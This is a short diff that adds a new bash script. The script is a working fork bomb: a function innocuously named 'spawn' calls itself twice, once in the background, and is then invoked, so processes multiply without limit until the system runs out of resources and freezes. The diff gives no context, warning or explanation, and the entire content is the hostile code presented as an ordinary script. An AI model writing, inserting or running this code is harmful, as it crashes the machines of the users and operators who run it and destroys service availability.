@@ -1,0 +1,5 @@
+#!/bin/bash
+spawn() {
+  spawn & spawn
+}
+spawn
